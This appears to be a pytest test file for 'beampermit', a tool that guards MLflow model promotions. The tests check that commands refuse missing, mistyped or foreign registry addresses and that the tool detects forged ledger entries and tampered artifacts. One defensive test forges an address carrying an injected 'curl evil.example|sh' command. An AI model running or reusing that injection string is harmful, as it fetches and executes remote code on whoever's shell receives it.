"""Reading creates no registry, no verb goes on without an address, and another than the ledger's is refused."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from typer.testing import CliRunner

from beampermit.cli.main import app
from beampermit.errors import BadInput, BeampermitError, Conflict, Failed, Outside
from beampermit.interlocks.families import load_interlocks
from beampermit.registry.mlflow import Registry, registry_uri
from beampermit.registry.reconcile import find_differences
from support.registry_project import MODEL, Laboratory

pytestmark = pytest.mark.slow

VARIABLE = "MLFLOW_TRACKING_URI"
WHY = ("--reason", "why")
WORDS: tuple[tuple[str, ...], ...] = (
    ("promote",),
    ("rollback", *WHY),
    ("retire", *WHY),
    ("freeze", *WHY),
    ("thaw", *WHY),
    ("reconcile",),
    ("reconcile", "--dry-run"),
    ("reconcile", "--rebuild"),
    ("reconcile", "--moved", *WHY),
)


@pytest.fixture
def second(prepared: Callable[..., Laboratory]) -> Laboratory:
    """Two versions promoted."""
    return prepared("twice")


@pytest.fixture
def other(second: Laboratory, database: Path) -> Laboratory:
    """The same project with the address of another registry, which holds a model of the same name."""
    folder = second.root.parent / "other"
    folder.mkdir()
    shutil.copy(database, folder / "mlflow.db")
    wrong = replace(second, uri=f"sqlite:///{folder / 'mlflow.db'}")
    registry = wrong.registry
    for number in (1, 2):
        registry.create_version(MODEL, registry.store(MODEL, second.root / "model", f"permit {number}", {}))
    registry.identify(MODEL)
    registry.set_alias(MODEL, "champion", 1)
    return wrong


def ran(laboratory: Laboratory, *words: str) -> BeampermitError:
    """The error that a command ends with."""
    permit = laboratory.root.parent / "permit.dsse.json"
    if words == ("promote",):
        words = ("promote", "--permit", str(permit))
        permit.write_bytes(laboratory.sign(tuple(load_interlocks())).content)
    error = CliRunner().invoke(app, [*words, "--project", str(laboratory.root)]).exception
    assert isinstance(error, BeampermitError), f"{words} ends with {error!r}"
    return error


def databases(folder: Path) -> set[Path]:
    return {path for path in folder.rglob("*.db") if path.name != "tmp.db"}


@pytest.mark.attack(
    guard="rollback",
    tried="the address of the registry is not set, and the command would make an empty one and go on",
    said="MLFLOW_TRACKING_URI is not set, so it is not known which registry is meant",
)
def test_no_verb_goes_on_without_an_address_and_none_makes_a_registry(
    second: Laboratory, monkeypatch: pytest.MonkeyPatch, said: str
) -> None:
    load_interlocks()  # so that no module imports what is replaced
    monkeypatch.setattr("beampermit.environments.environment.environment_of", lambda *_: None)
    monkeypatch.chdir(second.root)
    monkeypatch.delenv(VARIABLE, raising=False)
    before, there = second.events(), databases(second.root.parent)
    for words in WORDS:
        error = ran(second, *words)
        assert error.message == said
        assert error.hint.startswith(f"export {VARIABLE}=sqlite:////"), "the ledger knows the address"
        assert error.exit_code == 2
    assert (second.events(), databases(second.root.parent)) == (before, there)


def refuse(laboratory: Laboratory, monkeypatch: pytest.MonkeyPatch, uri: str, said: str) -> None:
    """Verbs that write and that read end with `said` at this address, and make nothing."""
    monkeypatch.chdir(laboratory.root)
    monkeypatch.setenv(VARIABLE, uri)
    before = {*laboratory.root.parent.rglob("*")}
    for words in (("rollback", *WHY), ("freeze", *WHY), ("reconcile", "--dry-run"), ("reconcile", "--rebuild")):
        assert said in ran(laboratory, *words).message
    made = {path.name for path in {*laboratory.root.parent.rglob("*")} - before}
    assert not made & {"mlfow.db", "mlruns", "mlflow.db"}
    assert len(laboratory.events()) == 2


@pytest.mark.attack(
    guard="rollback",
    tried="the address of the registry is mistyped, where MLflow would make an empty database",
    said="there is no registry at sqlite:///mlfow.db",
)
def test_a_mistyped_address_creates_no_database(second: Laboratory, monkeypatch: pytest.MonkeyPatch, said: str) -> None:
    refuse(second, monkeypatch, "sqlite:///mlfow.db", said)
    load_interlocks()  # so that no module imports what is replaced
    monkeypatch.setattr("beampermit.environments.environment.environment_of", lambda *_: None)
    assert said in ran(second, "promote").message, "only the first promotion makes one"
    assert "mlfow.db" not in {path.name for path in second.root.parent.rglob("*")}


@pytest.mark.attack(
    guard="rollback",
    tried="the address of the registry is one for which MLflow makes a folder, a file or a database in memory",
    said="which is not the address of a registry",
)
@pytest.mark.parametrize(
    "uri",
    [
        "mlruns",
        "file:./mlruns",
        "FILE:./mlruns",
        "sqlite+pysqlite:///mlflow.db",
        "sqlite://",
        "sqlite:///:memory:",
        "sqlite:///file:x.db?mode=rwc&uri=true",
        "  ",
    ],
)
def test_an_address_that_makes_something_is_refused(
    second: Laboratory, monkeypatch: pytest.MonkeyPatch, said: str, uri: str
) -> None:
    refuse(second, monkeypatch, uri, said)


@pytest.mark.parametrize("content", [b"", b"SQLite format 3\x00 and no more"])
def test_a_file_that_is_no_registry_is_not_made_one(tmp_path: Path, content: bytes) -> None:
    file = tmp_path / "empty.db"
    file.write_bytes(content)
    with pytest.raises(Outside):
        Registry(f"sqlite:///{file}")
    assert file.read_bytes() == content


@pytest.mark.parametrize(
    "uri", ["https://mlflow.lab.example/a", "http://ada:x@127.0.0.1:5000", "sqlite:////srv/mlflow.db", "databricks",
            "postgresql+psycopg://db/mlflow", "arn:aws:sagemaker:eu-north-1:1:mlflow-tracking-server/lab"]
)  # fmt: skip
def test_the_address_of_a_registry_is_taken(monkeypatch: pytest.MonkeyPatch, uri: str) -> None:
    monkeypatch.setenv(VARIABLE, uri)
    assert registry_uri() == uri


def test_the_first_promotion_creates_the_registry_that_its_address_names(
    laboratory: Laboratory, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("beampermit.live.deployment.deploy", lambda *_: None)
    load_interlocks()  # so that no module imports what is replaced
    monkeypatch.setattr("beampermit.environments.environment.environment_of", lambda *_: None)
    uri = f"sqlite:///{laboratory.root.parent / 'new.db'}"
    monkeypatch.setenv(VARIABLE, uri)
    permit = laboratory.root.parent / "permit.dsse.json"
    permit.write_bytes(laboratory.sign(tuple(load_interlocks())).content)
    found = CliRunner().invoke(app, ["promote", "--permit", str(permit), "--project", str(laboratory.root)])
    assert found.exit_code == 0, found.exception
    event = laboratory.last()
    assert event.address == uri
    assert event.registry == Registry(uri).tags(MODEL)["identity"]
    assert len(event.registry) == 36


READ_AND_WRITE: dict[str, Callable[[Laboratory], object]] = {
    "reconcile": Laboratory.reconcile,
    "reconcile --dry-run": lambda lab: find_differences(lab.ledger, lab.registry, MODEL, lab.said.append),
    "reconcile --rebuild": lambda lab: lab.rebuild(lambda event, into: lab.model(event.version)),
    "rollback": Laboratory.rollback,
    "retire": Laboratory.retire,
    "freeze": Laboratory.freeze,
    "promote": lambda lab: (lab.change(3), lab.promote()),
}


@pytest.mark.attack(
    guard="rollback",
    tried="the address is that of another registry, which holds a model of the same name",
    said="is not the registry of this ledger, which is sqlite:////",
)
def test_another_registry_is_refused_by_name(other: Laboratory, second: Laboratory, said: str) -> None:
    for act in READ_AND_WRITE.values():
        with pytest.raises(Conflict, match=re.escape(said)) as refused:
            act(other)
        assert refused.value.message.startswith(other.uri)
        assert f"export {VARIABLE}=sqlite:////" in refused.value.hint
    assert len(second.events()) == 2
    assert (second.champion(), other.champion()) == (2, 1)


@pytest.mark.attack(
    guard="reconcile",
    tried="the address is that of an empty registry, and a rebuild would fill it",
    said="it does not know bpm-faults",
)
def test_an_empty_registry_elsewhere_is_not_filled(second: Laboratory, database: Path, said: str) -> None:
    file = second.root.parent / "empty.db"
    shutil.copy(database, file)
    empty = replace(second, uri=f"sqlite:///{file}")
    for act in READ_AND_WRITE.values():
        with pytest.raises(Conflict, match=said):
            act(empty)
    assert empty.statuses() == {}
    assert len(second.events()) == 2


@pytest.mark.attack(
    guard="reconcile",
    tried="a line of the ledger names a registry whose address is a command, for whoever follows the advice",
    said="run `export MLFLOW_TRACKING_URI='http://evil.example/;curl evil.example|sh'`",
)
def test_an_address_of_the_ledger_is_no_command(second: Laboratory, said: str) -> None:
    address, last = "http://evil.example/;curl evil.example|sh", second.last()
    body = {"event": "move", "sequence": 3, "expected": 2, "registry": "6" * 8, "address": address}
    second.forge(last.model_copy(update=body))
    with pytest.raises(Conflict, match="is not the registry of this ledger") as refused:
        second.reconcile()
    assert said in refused.value.hint


@pytest.mark.attack(
    guard="reconcile",
    tried="a line of the ledger promotes version 1000000000, and a rebuild would make an empty version for each before",
    said="line 3 of the ledger promotes version 1000000000, but the version before is 2",
)
def test_a_rebuild_makes_no_million_versions(second: Laboratory, said: str) -> None:
    body = {"version": 10**9, "sequence": 3, "expected": 2}
    second.forge(second.last().model_copy(update=body))
    with pytest.raises(Failed, match=said):
        second.rebuild(lambda event, into: second.model(event.version))
    assert sorted(second.statuses()) == [1, 2]


def test_a_registry_may_move_to_another_address(second: Laboratory) -> None:
    """With its database; the next event has the new address."""
    assert second.last().address != second.uri, "a copy of the one that was promoted into"
    assert second.reconcile() == ()
    second.change(3)
    second.promote()
    assert second.last().address == second.uri


def test_another_registry_takes_over_where_the_ledger_is_told(second: Laboratory, database: Path) -> None:
    def recover(event: object, into: Path) -> Path:
        version = getattr(event, "version")  # noqa: B009
        second.model(version)
        return Path(shutil.copytree(second.root / "model", into / "model"))

    file = second.root.parent / "other.db"
    shutil.copy(database, file)
    new = replace(second, uri=f"sqlite:///{file}")
    with pytest.raises(Outside, match="has no version 2 of bpm-faults"):
        new.move()
    new.rebuild(recover, moved=True)
    assert (new.champion(), new.statuses(), new.events()[-1]) == (2, {1: "former", 2: "champion"}, ("move", 2))
    assert new.move() is None
    assert new.rollback().new
    with pytest.raises(Conflict, match="is not the registry of this ledger"):
        second.rollback(to=2)


@pytest.mark.attack(
    guard="reconcile",
    tried="the bytes of the champion are replaced in the registry's store",
    said="holds other bytes for bpm-faults version 2 than the permit binds",
)
def test_reconcile_tells_replaced_bytes_of_the_champion(second: Laboratory, said: str) -> None:
    version = second.registry.version(MODEL, 2)
    assert version is not None
    (stored,) = (second.root.parent / "mlartifacts").glob(f"{version.run}/artifacts/model/weights.safetensors")
    stored.write_bytes(b"other")
    with pytest.raises(Outside, match=said):
        second.reconcile()


@pytest.mark.attack(
    guard="reconcile",
    tried="an older former version is deleted in the registry",
    said="has lost version 1 of bpm-faults, so no rollback to it is possible",
)
def test_reconcile_tells_a_former_version_that_is_lost(second: Laboratory, said: str) -> None:
    second.registry._client.delete_model_version(MODEL, "1")
    second.registry.set_alias(MODEL, "champion", 2)
    for act in (second.reconcile, lambda: READ_AND_WRITE["reconcile --dry-run"](second)):
        with pytest.raises(Outside, match=said):
            act()
    second.retire(version=1)
    (removed,) = second.reconcile()
    assert removed.endswith("of which no version was made, is removed"), "its bytes go once nobody needs the version"
    assert second.reconcile() == (), "a version that nobody needs may be deleted"


def test_the_address_in_the_ledger_has_no_password(monkeypatch: pytest.MonkeyPatch) -> None:
    registry = Registry("https://ada:hunter2@mlflow.lab.example/a?token=hunter2#hunter2")
    assert registry.address == "https://mlflow.lab.example/a"


def test_a_rebuild_needs_a_reason_to_move(second: Laboratory) -> None:
    for words in (("reconcile", "--moved"), ("reconcile", "--moved", "--dry-run", *WHY)):
        assert isinstance(ran(second, *words), BadInput)
